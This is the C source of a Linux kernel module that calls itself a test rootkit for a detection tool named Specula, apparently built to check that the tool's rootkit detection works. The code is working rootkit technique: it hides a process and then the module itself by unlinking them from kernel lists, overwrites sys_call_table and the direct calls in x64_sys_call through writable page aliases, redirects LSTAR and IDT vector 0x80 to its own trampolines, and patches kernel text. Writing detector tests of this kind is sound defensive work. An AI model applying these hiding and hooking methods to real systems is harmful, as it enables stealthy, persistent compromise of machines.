// SPDX-License-Identifier: GPL-2.0
/*
 * specula_rootkit: a test rootkit for Specula's rootkit checks. It is built
 * against the guest kernel's Debian linux-headers package and loaded only in
 * a disposable test guest. It does what rootkits in the wild do:
 *
 *  - hides the process `hide_pid` by unlinking it from the task list
 *    (init_task.tasks); it keeps its pid, so /proc and kill(2) still find it;
 *  - hides itself by unlinking from the module list (`modules`), which is
 *    what /proc/modules and lsmod read; its sysfs kobject and its nodes in
 *    the module address tree stay;
 *  - redirects system call `syscall_nr` by overwriting its sys_call_table
 *    entry (the table's address is `sys_call_table`, read from /proc/kallsyms
 *    by the test) through a writable alias of the read-only page. The hook
 *    calls the original, so the guest keeps working;
 *  - on kernels that dispatch through `x64_sys_call` (6.9, and 6.1.87+ with the
 *    BHI backport), where the table is no longer used, also rewrites the direct
 *    call or tail jump to `handler` (the system call's `__x64_sys_*` function) inside
 *    `x64_sys_call` to call its own hook instead, so that the call is redirected
 *    for real;
 *  - with `hook_lstar=1`, points every CPU's LSTAR (where `syscall` enters the
 *    kernel) at a trampoline in this module that jumps on to the real entry, so
 *    that it sees every system call first. Refused under page-table isolation,
 *    whose user page tables do not map module text;
 *  - with `hook_idt=1`, points the IDT gate of vector 0x80 (IA32_SYSCALL_VECTOR,
 *    the classic rootkit target) at a trampoline in this module that jumps on to
 *    the gate's original handler. The gate is rewritten in the table the CPU
 *    loads (IDTR; the kernel maps `idt_table` there read-only after boot) through
 *    a writable alias of its page; the trampoline's address is readable in
 *    /sys/module/specula_rootkit/parameters/idt_hook. Refused under page-table
 *    isolation, like `hook_lstar`;
 *  - with `poke_text_end` (the address of `_etext`, from /proc/kallsyms), writes
 *    the last byte of kernel text through a writable alias and then puts it back,
 *    as a rootkit that patches code for a moment and restores it before anyone
 *    looks. That byte is padding no code runs, so the guest cannot trip on it.
 *
 * It takes no locks it cannot reach (tasklist_lock and module_mutex are not
 * exported): the test guest is idle while it loads. It cannot be unloaded.
 */
#include <linux/module.h>
#include <linux/mm.h>
#include <linux/pid.h>
#include <linux/sched.h>
#include <linux/sched/task.h>
#include <linux/vmalloc.h>
#include <asm/cpufeature.h>
#include <asm/desc.h>
#include <asm/ibt.h>
#include <asm/irq_vectors.h>
#include <asm/msr.h>
#include <asm/nospec-branch.h>

static int hide_pid;
module_param(hide_pid, int, 0);
MODULE_PARM_DESC(hide_pid, "pid of the process to hide (0: none)");

static unsigned long table_address;
module_param_named(sys_call_table, table_address, ulong, 0);
MODULE_PARM_DESC(sys_call_table, "address of sys_call_table (from /proc/kallsyms)");

static unsigned long dispatch_address;
module_param_named(x64_sys_call, dispatch_address, ulong, 0);
MODULE_PARM_DESC(x64_sys_call, "address of x64_sys_call (0: the kernel has none)");

static unsigned long handler_address;
module_param_named(handler, handler_address, ulong, 0);
MODULE_PARM_DESC(handler, "address of the system call's __x64_sys_* function");

static int syscall_nr = -1;
module_param(syscall_nr, int, 0);
MODULE_PARM_DESC(syscall_nr, "system call to redirect (-1: none)");

static bool hook_lstar;
module_param(hook_lstar, bool, 0);
MODULE_PARM_DESC(hook_lstar, "send every CPU's syscall entry (LSTAR) through this module");

static bool hook_idt;
module_param(hook_idt, bool, 0);
MODULE_PARM_DESC(hook_idt, "send IDT vector 0x80 through this module");

static unsigned long poke_text_end;
module_param(poke_text_end, ulong, 0);
MODULE_PARM_DESC(poke_text_end, "address of _etext: its last text byte is overwritten, then restored (0: not)");

/* Where the hooked IDT gate points now (0: not hooked), for the test to compare. */
static unsigned long idt_hook_address;
module_param_named(idt_hook, idt_hook_address, ulong, 0444);
MODULE_PARM_DESC(idt_hook, "address of the IDT trampoline once hooked (read-only)");

/* The entry the trampoline jumps on to (read from LSTAR before the hook). */
static unsigned long original_lstar __used;
/* The handler of the hooked IDT gate before the hook. */
static unsigned long original_idt_entry __used;

/*
 * Entered by `syscall` in ring 0 on the user's stack and GS base, before the
 * kernel has switched either: it touches neither and jumps on.
 */
asm(".pushsection .text, \"ax\"\n"
    ".globl specula_lstar_hook\n"
    ".type specula_lstar_hook, @function\n"
    "specula_lstar_hook:\n\t"
    ASM_ENDBR
    ANNOTATE_RETPOLINE_SAFE
    "jmp *original_lstar(%rip)\n"
    ".size specula_lstar_hook, . - specula_lstar_hook\n"
    ".popsection\n");
void specula_lstar_hook(void);

/*
 * Entered through the hooked IDT gate with the CPU's interrupt frame on the
 * stack and nothing else done: it jumps on to the original entry stub.
 */
asm(".pushsection .text, \"ax\"\n"
    ".globl specula_idt_hook\n"
    ".type specula_idt_hook, @function\n"
    "specula_idt_hook:\n\t"
    ASM_ENDBR
    ANNOTATE_RETPOLINE_SAFE
    "jmp *original_idt_entry(%rip)\n"
    ".size specula_idt_hook, . - specula_idt_hook\n"
    ".popsection\n");
void specula_idt_hook(void);

typedef long (*syscall_fn_t)(const struct pt_regs *);
static syscall_fn_t original;

static long specula_rootkit_hook(const struct pt_regs *regs)
{
	return original(regs);
}

static long specula_rootkit_dispatch_hook(const struct pt_regs *regs)
{
	return ((syscall_fn_t)handler_address)(regs);
}

/* Writes `len` bytes at kernel text address `at` through a writable alias. */
static int poke_text(unsigned long at, const void *bytes, size_t len)
{
	struct page *pages[2] = { virt_to_page((void *)at), virt_to_page((void *)(at + len - 1)) };
	int count = pages[0] == pages[1] ? 1 : 2;
	void *alias = vmap(pages, count, VM_MAP, PAGE_KERNEL);

	if (!alias)
		return -ENOMEM;
	memcpy(alias + offset_in_page(at), bytes, len);
	vunmap(alias);
	return 0;
}

/* Finds the direct call (or tail jump) to `handler` in x64_sys_call and points it at the hook. */
static int redirect_dispatch(void)
{
	const u8 *code = (const u8 *)dispatch_address;
	int i;

	for (i = 0; i < 16384; i++) {
		s32 rel;
		unsigned long next = dispatch_address + i + 5;

		/* `call handler`, or `jmp handler` where the compiler made it a tail call. */
		if (code[i] != 0xe8 && code[i] != 0xe9)
			continue;
		memcpy(&rel, code + i + 1, 4);
		if (next + (long)rel != handler_address)
			continue;
		rel = (s32)((long)specula_rootkit_dispatch_hook - (long)next);
		return poke_text(dispatch_address + i + 1, &rel, 4);
	}
	return -ENOENT;
}

/* Overwrites the last byte of kernel text and puts it back: two writes. */
static int poke_and_restore_text(void)
{
	unsigned long at = poke_text_end - 1;
	u8 original = *(const u8 *)at;
	u8 poked = original ^ 0xff;
	int err = poke_text(at, &poked, 1);

	if (err)
		return err;
	return poke_text(at, &original, 1);
}

static int hide_process(void)
{
	struct pid *pid = find_get_pid(hide_pid);
	struct task_struct *task = pid ? get_pid_task(pid, PIDTYPE_PID) : NULL;

	put_pid(pid);
	if (!task)
		return -ESRCH;
	list_del_init(&task->tasks);
	put_task_struct(task);
	return 0;
}

static int redirect_syscall(void)
{
	unsigned long entry = table_address + syscall_nr * sizeof(void *);
	struct page *page = virt_to_page((void *)entry);
	void *alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
	syscall_fn_t *slot;

	if (!alias)
		return -ENOMEM;
	slot = alias + offset_in_page(entry);
	original = READ_ONCE(*slot);
	WRITE_ONCE(*slot, specula_rootkit_hook);
	vunmap(alias);
	return 0;
}

static void set_lstar(void *unused)
{
	wrmsrl(MSR_LSTAR, (unsigned long)specula_lstar_hook);
}

static int hook_syscall_entry(void)
{
	if (boot_cpu_has(X86_FEATURE_PTI))
		return -EOPNOTSUPP;
	rdmsrl(MSR_LSTAR, original_lstar);
	on_each_cpu(set_lstar, NULL, 1);
	return 0;
}

/*
 * Points IDT gate IA32_SYSCALL_VECTOR at the trampoline. The IDT the CPU loads is
 * read-only; its page is written through a writable alias, found from IDTR.
 */
static int hook_interrupt(void)
{
	struct desc_ptr idtr;
	unsigned long gate_va, target;
	phys_addr_t gate_pa;
	struct page *page;
	gate_desc gate;
	void *alias;

	if (boot_cpu_has(X86_FEATURE_PTI))
		return -EOPNOTSUPP;
	store_idt(&idtr);
	if (idtr.size < (IA32_SYSCALL_VECTOR + 1) * sizeof(gate_desc) - 1)
		return -ENOENT;
	gate_va = idtr.address + IA32_SYSCALL_VECTOR * sizeof(gate_desc);
	memcpy(&gate, (void *)gate_va, sizeof(gate));
	if (!gate.bits.p)
		return -ENOENT;
	original_idt_entry = gate_offset(&gate);
	target = (unsigned long)specula_idt_hook;
	gate.offset_low = (u16)target;
	gate.offset_middle = (u16)(target >> 16);
	gate.offset_high = (u32)(target >> 32);

	gate_pa = slow_virt_to_phys((void *)gate_va);
	page = pfn_to_page(PHYS_PFN(gate_pa));
	alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
	if (!alias)
		return -ENOMEM;
	/* Not atomic: vector 0x80 is not raised while the guest loads this module. */
	memcpy(alias + offset_in_page(gate_pa), &gate, sizeof(gate));
	vunmap(alias);
	idt_hook_address = target;
	return 0;
}

static int __init specula_rootkit_init(void)
{
	int err;

	if (syscall_nr >= 0 && !table_address)
		return -EINVAL;
	if (hide_pid > 0) {
		err = hide_process();
		if (err)
			return err;
	}
	if (syscall_nr >= 0) {
		err = redirect_syscall();
		if (err)
			return err;
	}
	if (dispatch_address && handler_address) {
		err = redirect_dispatch();
		if (err)
			return err;
	}
	if (poke_text_end) {
		err = poke_and_restore_text();
		if (err)
			return err;
	}
	/* Before LSTAR: past this, PTI is off and hooking LSTAR cannot fail. */
	if (hook_idt) {
		err = hook_interrupt();
		if (err)
			return err;
	}
	if (hook_lstar) {
		err = hook_syscall_entry();
		if (err)
			return err;
	}
	list_del_init(&THIS_MODULE->list);
	pr_info("specula_rootkit: hid pid %d, redirected syscall %d, hid itself\n", hide_pid, syscall_nr);
	return 0;
}
module_init(specula_rootkit_init);

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("Specula's test rootkit: hides a process and itself, redirects a system call and an interrupt");
